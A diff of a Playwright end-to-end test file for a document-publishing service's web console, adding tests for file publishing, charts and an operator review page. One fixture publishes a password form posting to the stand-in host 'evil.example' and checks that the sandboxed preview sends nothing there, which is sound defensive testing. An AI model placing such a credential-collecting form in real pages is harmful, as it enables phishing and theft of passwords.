@@ -1,5 +1,6 @@
 import type { Browser, BrowserContext, BrowserContextOptions, Locator, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { setOperator } from '../../service/accounts/set-operator.ts';
 import { seriousFaults } from '../support/axe.ts';
 import { launchChromium } from '../support/chromium.ts';
 import { ownersClient, report, visit } from '../support/link-visitor.ts';
@@ -14,13 +15,17 @@ let uuid: string;
 beforeAll(async () => {
   service = await startService();
   browser = await launchChromium();
-  const { documents } = ownersClient(service);
+  const { documents, recipients } = ownersClient(service);
   const html = '<!doctype html><title>Plan</title>';
   const published = await documents.publish({ html }, { title: 'x'.repeat(300), password: 'open sesame' });
   await documents.update(published.uuid, { require_email: true, expires_on: '2020-05-06' });
   const seen = await documents.publish({ html }, { title: 'Harbour plan' });
   await report((await visit(seen.link)).beacon, { acted: true, completion: 80 });
   uuid = seen.uuid;
+  await recipients.create(uuid, { name: 'Bo' });
+  const form = '<!doctype html><form action="https://evil.example/"><input type="password"></form>';
+  await documents.publish({ html: form }, { title: 'Held page' });
+  await setOperator(service.db, { email: service.owner.email, isOperator: true });
 });
 
 afterAll(async () => {
@@ -59,7 +64,6 @@ describe('the console', () => {
     for (const path of [
       '/documents',
       `/documents/${uuid}/`,
-      `/documents/${uuid}/?range=all`,
       `/documents/${uuid}/recipients/`,
       `/documents/${uuid}/versions/`,
       `/documents/${uuid}/replace/`,
@@ -80,7 +84,8 @@ describe('the console', () => {
   it('keeps the words of its tables whole beside a long title', async () => {
     await signIn({ viewport: { width: 700, height: 700 } });
     const row = page.getByRole('row').filter({ hasText: 'xxx' });
-    for (const words of ['Web page', 'just now', '0 views']) expect(await onOneLine(row.getByText(words))).toBe(true);
+    for (const words of ['Web page', '0 views']) expect(await onOneLine(row.getByText(words))).toBe(true);
+    expect(await onOneLine(row.locator('time'))).toBe(true);
     await page.setViewportSize({ width: 320, height: 600 });
     await page.goto(`${service.baseUrl}/plan/`);
     for (const cell of await page.getByRole('cell', { name: /^\w+$/ }).all()) expect(await onOneLine(cell)).toBe(true);
@@ -89,8 +94,9 @@ describe('the console', () => {
   it('tells on a phone on what a document was seen and how far it was read', async () => {
     await signIn({ viewport: { width: 320, height: 600 } });
     await page.goto(`${service.baseUrl}/documents/${uuid}/`);
-    expect(await page.getByText('Chrome on Windows').isVisible()).toBe(true);
-    expect(await page.getByText('80 %').isVisible()).toBe(true);
+    const row = page.getByRole('region', { name: 'Views', exact: true }).getByRole('row');
+    expect(await row.getByText('Chrome on Windows').isVisible()).toBe(true);
+    expect(await row.getByText('80 %').isVisible()).toBe(true);
   });
 
   it('shows a new key once, and makes no second one when the page is loaded again', async () => {
@@ -117,5 +123,52 @@ describe('the console', () => {
     const link = page.getByLabel('Personal link of Ann');
     expect(await link.inputValue()).toMatch(/\?r=\w+$/);
     expect(await link.isEditable()).toBe(false);
+  });
+
+  it('publishes a file and replaces it where scripts are off', async () => {
+    await signIn({ javaScriptEnabled: false });
+    await page.getByText('Publish a file').click();
+    const file = (words: string) => ({ name: 'plan.html', mimeType: 'text/html', buffer: Buffer.from(`<p>${words}`) });
+    await page.getByRole('textbox', { name: 'Title' }).fill('By hand');
+    await page.getByLabel('File').setInputFiles(file('First'));
+    await page.getByRole('button', { name: 'Publish', exact: true }).click();
+    await page.getByText('Published. Copy the link').waitFor();
+    await page.getByRole('link', { name: 'Replace' }).click();
+    await page.getByLabel('File').setInputFiles(file('Second'));
+    await page.getByRole('button', { name: 'Replace content' }).click();
+    await page.getByRole('heading', { name: 'Version 2' }).waitFor();
+    expect(await page.getByText('Visitors see this one').count()).toBe(1);
+  });
+
+  it('draws its charts under its own policy, and tells bars by their height alone', async () => {
+    await signIn({ viewport: { width: 320, height: 600 } });
+    const refused: string[] = [];
+    page.on('console', (message) => message.type() === 'error' && refused.push(message.text()));
+    await page.goto(`${service.baseUrl}/documents/${uuid}/?range=7`);
+    const bar = page.locator('.chart-bar');
+    const place = await bar.boundingBox();
+    const chart = await page.getByRole('img', { name: 'Bar chart: 1 view by day' }).boundingBox();
+    expect(place?.height).toBeGreaterThan(40);
+    expect(place && chart && place.x + place.width).toBeLessThanOrEqual((chart?.x ?? 0) + (chart?.width ?? 0));
+    await page.getByText('As a table').first().click();
+    expect(await page.getByRole('table', { name: /Views by day/ }).isVisible()).toBe(true);
+    expect(refused).toEqual([]);
+  });
+
+  it('shows a held page to the operator, who cannot send its form by mistake', async () => {
+    await signIn();
+    await page.goto(`${service.baseUrl}/review`);
+    const [look] = await Promise.all([context.waitForEvent('page'), page.getByText('Look at it').click()]);
+    const asked: string[] = [];
+    await context.route('https://evil.example/**', (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    });
+    const content = look.frameLocator('iframe');
+    await content.locator('input').fill('secret');
+    await content.locator('input').press('Enter');
+    await content.locator('input').press('Tab');
+    expect(asked).toEqual([]);
+    expect(await seriousFaults(look)).toEqual([]);
   });
 });
